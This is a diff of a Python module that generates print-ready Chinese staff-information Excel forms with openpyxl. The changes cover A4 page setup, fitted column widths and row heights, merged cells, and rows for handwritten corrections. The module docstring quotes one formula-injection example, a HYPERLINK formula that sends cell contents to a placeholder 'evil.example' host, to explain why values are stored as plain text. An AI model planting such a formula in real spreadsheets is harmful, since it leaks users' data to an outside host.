@@ -1,7 +1,17 @@
-"""Excel reports with openpyxl: the seed's headings in order, bold headers, set widths, frozen header rows.
+"""Excel reports with openpyxl: the seed's headings in order, bold headers, frozen header rows, print-ready.
 
 Every cell uses a font with Chinese glyphs (宋体, which Excel and WPS map on every
-Chinese Windows; LibreOffice substitutes an installed CJK font).
+Chinese Windows; LibreOffice substitutes an installed CJK font, see `reports.pdf`).
+
+Every sheet prints as it is (`print_ready`): A4, landscape only when the columns are wider
+than a portrait page, fitted to one page wide (as many pages down as needed), the title and
+header rows repeated on every page, every cell wrapped and columns as wide as their content
+(a CJK character counts twice). Office staff print these forms and sign them; a form that
+needs rework in Excel before it prints is not done.
+
+Email addresses are never broken: a wrap opportunity at `@` (a zero-width space) would be
+copied along with the address and corrupt it, so an address column is as wide as its longest
+address instead (the column cap does not apply to it).
 
 Every text is stored as text, never as a formula: the values come from HR's roster and the
 plan, and a name such as `=HYPERLINK("http://evil.example/?x="&A1)` written as a formula would
@@ -12,7 +22,9 @@ for a formula; `_text` keeps it a string cell with the same visible text.
 from __future__ import annotations
 
 import io
+import math
 import re
+import unicodedata
 from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
@@ -21,13 +33,29 @@ from openpyxl import Workbook
 from openpyxl.cell.cell import Cell
 from openpyxl.drawing.image import Image
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
+from openpyxl.utils import column_index_from_string, get_column_letter
+from openpyxl.worksheet.page import PageMargins
 from openpyxl.worksheet.worksheet import Worksheet
 
 FONT = "宋体"
+BODY_SIZE = 11
 THIN = Side(style="thin")
 BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
 HEADER_FILL = PatternFill("solid", fgColor="F0F0F0")
-WRAP = Alignment(wrap_text=True, vertical="top")
+WRAP = Alignment(wrap_text=True, vertical="center")
+
+PORTRAIT_WIDTH = 92
+"""Column width units (characters of the default font, about 1.9 mm each) that fit the
+printable width of a portrait A4 page (210 mm less 15 mm margins); wider sheets print landscape."""
+MIN_WIDTH, MAX_WIDTH = 6, 40
+SLACK = 1.15
+"""Printed text is wider than the column unit's count suggests (a Latin letter of the Song face is
+wider than the unit's digit): a column is this much wider than its text's count, plus padding."""
+LINE_HEIGHT = 15.0
+"""Points per line of 11 pt text (with leading)."""
+WRITING_ROW = 24.0
+"""Points (8.5 mm): a row someone writes in by hand (附表5's corrections), at least 8 mm."""
+EMAIL = re.compile(r"[^@\s]+@[^@\s]+\.[^@\s]+")
 
 
 def _text(cell: Cell, value: Any) -> None:
@@ -51,14 +79,14 @@ def _title(sheet: Worksheet, form: str, title: str, width: int) -> None:
     sheet["A1"].font = Font(name=FONT, size=10)
     _text(sheet["A2"], title)
     sheet["A2"].font = Font(name=FONT, size=16, bold=True)
-    sheet["A2"].alignment = Alignment(horizontal="center")
+    sheet["A2"].alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
     sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)
 
 
 def _row(sheet: Worksheet, values: Sequence[Any], header: bool = False) -> int:
     row = _append(sheet, values)
     for cell in sheet[row]:
-        cell.font = Font(name=FONT, bold=header)
+        cell.font = Font(name=FONT, size=BODY_SIZE, bold=header)
         cell.border = BOX
         cell.alignment = WRAP
         if header:
@@ -68,7 +96,7 @@ def _row(sheet: Worksheet, values: Sequence[Any], header: bool = False) -> int:
 
 def _widths(sheet: Worksheet, widths: Sequence[int]) -> None:
     for n, width in enumerate(widths):
-        sheet.column_dimensions[chr(ord("A") + n)].width = width
+        sheet.column_dimensions[get_column_letter(n + 1)].width = width
 
 
 def _sheet_name(text: str, taken: set[str]) -> str:
@@ -82,53 +110,149 @@ def _sheet_name(text: str, taken: set[str]) -> str:
     return name
 
 
+def text_width(value: Any) -> int:
+    """Width of the widest line of `value` in column units: a CJK (wide) character counts two."""
+    if value is None:
+        return 0
+    lines = str(value).split("\n")
+    return max(sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line) for line in lines)
+
+
+def _scale(cell: Cell) -> float:
+    """How much wider than 11 pt body text the cell's font sets (the 16 pt title: about 1.5)."""
+    size = cell.font.sz if cell.font is not None and cell.font.sz else BODY_SIZE
+    return float(size) / BODY_SIZE
+
+
+def _lines(value: Any, width: float, scale: float = 1.0) -> int:
+    """Lines a wrapped text takes in a column (or span) `width` units wide."""
+    if value is None or width <= 0:
+        return 1
+    return sum(
+        max(1, math.ceil(text_width(line) * scale * SLACK / max(width - 2, 1)))
+        for line in str(value).split("\n")
+    )
+
+
+def _fit_columns(sheet: Worksheet) -> None:
+    """Every column as wide as its content (within MIN_WIDTH…MAX_WIDTH; addresses never capped).
+
+    Cells merged across columns do not widen a column: their rows grow instead (`_fit_rows`).
+    """
+    spanned = {
+        (row, col)
+        for merged in sheet.merged_cells.ranges
+        if merged.max_col > merged.min_col
+        for row in range(merged.min_row, merged.max_row + 1)
+        for col in range(merged.min_col, merged.max_col + 1)
+    }
+    widths: dict[int, float] = {}
+    for letter, dimension in sheet.column_dimensions.items():  # widths set by `_widths`: room to write in
+        widths[column_index_from_string(letter)] = dimension.width
+    for row in sheet.iter_rows():
+        for cell in row:
+            if cell.value is None or (cell.row, cell.column) in spanned:
+                continue
+            need = text_width(cell.value) * _scale(cell) * SLACK + 2
+            if not (isinstance(cell.value, str) and EMAIL.search(cell.value)):
+                need = min(need, MAX_WIDTH)
+            widths[cell.column] = max(widths.get(cell.column, MIN_WIDTH), need)
+    for column in range(1, sheet.max_column + 1):
+        sheet.column_dimensions[get_column_letter(column)].width = math.ceil(widths.get(column, MIN_WIDTH))
+
+
+def _width_of(sheet: Worksheet, first: int, last: int) -> float:
+    return sum(
+        sheet.column_dimensions[get_column_letter(c)].width or MIN_WIDTH for c in range(first, last + 1)
+    )
+
+
+def _fit_rows(sheet: Worksheet) -> None:
+    """Each row as tall as its wrapped text needs; Excel does not grow a row for a merged cell's text,
+    and neither program for a row whose height was set, so every height is set here, never less
+    than what a form asked for (a row to write in)."""
+    span = {(m.min_row, m.min_col): m.max_col for m in sheet.merged_cells.ranges}
+    for row in sheet.iter_rows():
+        lines, tallest = 1, 1.0
+        for cell in row:
+            if cell.value is None:
+                continue
+            last = span.get((cell.row, cell.column), cell.column)
+            lines = max(lines, _lines(cell.value, _width_of(sheet, cell.column, last), _scale(cell)))
+            tallest = max(tallest, _scale(cell))
+        number = row[0].row
+        need = lines * LINE_HEIGHT * tallest + 3
+        asked = sheet.row_dimensions[number].height or 0
+        sheet.row_dimensions[number].height = max(asked, need)
+
+
+def print_ready(sheet: Worksheet, title_rows: int) -> None:
+    """A4, one page wide, rows 1…`title_rows` repeated on every page, columns and rows fitted.
+
+    Call it once the sheet's rows are all written (it measures them).
+    """
+    for row in sheet.iter_rows():
+        for cell in row:
+            if cell.font is None or cell.font.name != FONT:
+                cell.font = Font(name=FONT, size=BODY_SIZE)
+            if cell.value is not None and not cell.alignment.wrap_text:
+                cell.alignment = Alignment(
+                    wrap_text=True, horizontal=cell.alignment.horizontal, vertical="center"
+                )
+    _fit_columns(sheet)
+    _fit_rows(sheet)
+    wide = _width_of(sheet, 1, sheet.max_column) > PORTRAIT_WIDTH
+    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
+    sheet.page_setup.orientation = "landscape" if wide else "portrait"
+    sheet.page_setup.fitToWidth = 1
+    sheet.page_setup.fitToHeight = 0
+    sheet.sheet_properties.pageSetUpPr.fitToPage = True
+    sheet.print_options.horizontalCentered = True
+    sheet.page_margins = PageMargins(left=0.6, right=0.6, top=0.75, bottom=0.75, header=0.3, footer=0.3)
+    if title_rows:
+        sheet.print_title_rows = f"1:{title_rows}"
+
+
 def _stage_rows(sheet: Worksheet, heading: str, stage: dict[str, Any], names_label: str, day: str) -> None:
     _row(sheet, [heading, "总数", "完成数", "未完成数", "上报日期", "完成日期"], header=True)
     _row(sheet, ["", stage["total"], stage["done"], stage["missing"], day, stage["completed_on"]])
     row = _row(sheet, [names_label, stage["missing_names"] or "无", "", "", "", ""])
     sheet.merge_cells(start_row=row, start_column=2, end_row=row, end_column=6)
-    sheet.row_dimensions[row].height = max(15, 15 * (len(stage["missing_names"]) // 40 + 1))
 
 
 def dept_audit(context: dict[str, Any], out: Path) -> None:
-    """A summary sheet (one line per department, header frozen) and one 附表6 sheet per department."""
+    """One 附表6 sheet per department, and before them a summary sheet (one line per department,
+    header frozen) when there are several: a one-department file opens on its department."""
     workbook = Workbook()
-    summary = workbook.active
-    summary.title = "汇总"
-    _row(
-        summary,
-        [
-            "部门名称",
-            "审核人",
-            "联系电话",
-            "本部门教职工数",
-            "完成数",
-            "未完成数",
-            "审核完成数",
-            "审核未完成数",
-            "上报日期",
-        ],
-        header=True,
-    )
-    summary.freeze_panes = "A2"
-    _widths(summary, [22, 10, 14, 14, 8, 10, 12, 14, 12])
+    workbook.remove(workbook.active)
     taken = {"汇总"}
-    for a in context["audits"]:
-        entry, review = a["entry"], a["review"]
+    audits = context["audits"]
+    if len(audits) > 1:
+        summary = workbook.create_sheet("汇总")
         _row(
             summary,
-            [a["unit_name"], a["auditor"], a["phone"], entry["total"], entry["done"], entry["missing"]]
-            + [review["done"], review["missing"], a["report_date"]],
+            ["部门名称", "审核人", "联系电话", "本部门教职工数", "完成数", "未完成数"]
+            + ["审核完成数", "审核未完成数", "上报日期"],
+            header=True,
         )
+        summary.freeze_panes = "A2"
+        for a in audits:
+            entry, review = a["entry"], a["review"]
+            _row(
+                summary,
+                [a["unit_name"], a["auditor"], a["phone"], entry["total"], entry["done"], entry["missing"]]
+                + [review["done"], review["missing"], a["report_date"]],
+            )
+        print_ready(summary, 1)
+    for a in audits:
+        entry, review = a["entry"], a["review"]
         sheet = workbook.create_sheet(_sheet_name(a["unit_name"], taken))
         _title(sheet, "附表6", "数据审核报表", 6)
-        _row(
-            sheet, ["部门名称", a["unit_name"], "审核人", a["auditor"], "联系电话", a["phone"]], header=False
-        )
+        _row(sheet, ["部门名称", a["unit_name"], "审核人", a["auditor"], "联系电话", a["phone"]])
         _stage_rows(sheet, "本部门教职工信息录入情况", entry, "未完成教职工姓名", a["report_date"])
         _stage_rows(sheet, "本部门教职工信息审核情况", review, "未审核教职工姓名", a["report_date"])
         sheet.freeze_panes = "A4"
-        _widths(sheet, [26, 16, 10, 12, 12, 14])
+        print_ready(sheet, 3)
     workbook.save(out)
 
 
@@ -146,16 +270,21 @@ def monthly(context: dict[str, Any], chart_png: bytes | None, out: Path) -> None
     ):
         _row(sheet, [label, stage["total"], stage["done"], stage["missing"], stage["completed_on"]])
     sheet.freeze_panes = f"A{header + 1}"
-    _widths(sheet, [24, 18, 10, 14, 20])
+    print_ready(sheet, header)
     if chart_png is not None:
         image = Image(io.BytesIO(chart_png))
-        image.width, image.height = 720, 400
+        columns_px = sum(
+            7 * (sheet.column_dimensions[get_column_letter(c)].width or 8) + 5 for c in range(1, 6)
+        )
+        width = min(720, int(columns_px))  # no wider than the table: it prints within the page
+        image.width, image.height = width, int(width * 400 / 720)
         sheet.add_image(image, f"A{sheet.max_row + 2}")
     workbook.save(out)
 
 
 def teacher_sheet(context: dict[str, Any], out: Path) -> None:
-    """One 附表5 sheet per teacher, named by staff ID and name."""
+    """One 附表5 sheet per teacher, named by staff ID and name; the correction rows tall enough to
+    write in by hand."""
     workbook = Workbook()
     workbook.remove(workbook.active)
     taken: set[str] = set()
@@ -165,17 +294,27 @@ def teacher_sheet(context: dict[str, Any], out: Path) -> None:
         _row(sheet, ["姓名", t["name"], "性别", t["gender"], ""])
         _row(sheet, ["出生年月", t["birth_month"], "岗位", t["post"], ""])
         _row(sheet, ["所属部门", t["department"], "联系电话", t["phone"], ""])
+        for row in range(3, 6):
+            sheet.merge_cells(start_row=row, start_column=4, end_row=row, end_column=5)
         header = _row(sheet, ["信息核对", "数据采集信息", "信息是否正确", "", ""], header=True)
+        sheet.merge_cells(start_row=header, start_column=3, end_row=header, end_column=5)
         for label, key in (("学历信息", "education"), ("学位信息", "degree"), ("职称信息", "title")):
-            _row(sheet, [label, t[key], "□正确　□错误", "", ""])
-        _row(sheet, ["我保证此次数据采集所提交的所有信息真实有效。", "", "", "签字：", ""])
+            row = _row(sheet, [label, t[key], "□正确　□错误", "", ""])
+            sheet.merge_cells(start_row=row, start_column=3, end_row=row, end_column=5)
+        row = _row(sheet, ["我保证此次数据采集所提交的所有信息真实有效。", "", "", "签字：", ""])
+        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=3)
+        sheet.row_dimensions[row].height = WRITING_ROW
         _row(sheet, ["序号", "更改项目", "原始信息", "变更后信息", "变更原因"], header=True)
         for n in context["correction_rows"]:
-            _row(sheet, [n, "", "", "", ""])
-        _row(sheet, ["如果有需要修改的信息项请填写，信息变更请用黑色签字笔填写。", "", "", "", ""])
-        _row(sheet, ["备注", f"工号 {t['staff_id']}", "", "", ""])
+            row = _row(sheet, [n, "", "", "", ""])
+            sheet.row_dimensions[row].height = WRITING_ROW
+        row = _row(sheet, ["如果有需要修改的信息项请填写，信息变更请用黑色签字笔填写。", "", "", "", ""])
+        sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=5)
+        row = _row(sheet, ["备注", f"工号 {t['staff_id']}", "", "", ""])
+        sheet.merge_cells(start_row=row, start_column=2, end_row=row, end_column=5)
         sheet.freeze_panes = f"A{header}"
-        _widths(sheet, [26, 22, 18, 18, 18])
+        _widths(sheet, [14, 26, 16, 16, 16])
+        print_ready(sheet, 2)
     workbook.save(out)
 
 
@@ -184,21 +323,21 @@ def working_group(context: dict[str, Any], out: Path) -> None:
     sheet = workbook.active
     sheet.title = "附表3"
     _title(sheet, "附表3", "全国教师管理信息系统联合工作组名单", 7)
-    _append(sheet, [f"设区市(高校)（公章）：{context['institution']}"])
-    _row(sheet, ["工作组成员", "姓名", "处室名称", "职务", "办公电话", "手机", "邮箱"], header=True)
-    sheet.freeze_panes = "A5"
+    row = _append(sheet, [f"设区市(高校)（公章）：{context['institution']}"])
+    sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
+    header = _row(sheet, ["工作组成员", "姓名", "处室名称", "职务", "办公电话", "手机", "邮箱"], header=True)
+    sheet.freeze_panes = f"A{header + 1}"
     for r in context["rows"]:
         _row(sheet, [r["role"], r["name"], r["office"], r["duty"], r["office_phone"], "", r["email"]])
     for c in (context["contact"], context["technical_contact"]):
         if c:
-            _append(
+            row = _append(
                 sheet,
                 [
-                    f"设区市(高校){c['role']}：{c['name']}",
-                    f"单位：{c['office']}",
-                    f"办公电话：{c['office_phone']}",
-                ]
-                + [f"电子邮件：{c['email']}"]
+                    f"设区市(高校){c['role']}：{c['name']}　单位：{c['office']}　"
+                    f"办公电话：{c['office_phone']}　电子邮件：{c['email']}"
+                ],
             )
-    _widths(sheet, [20, 10, 16, 22, 14, 10, 30])
+            sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=7)
+    print_ready(sheet, header)
     workbook.save(out)
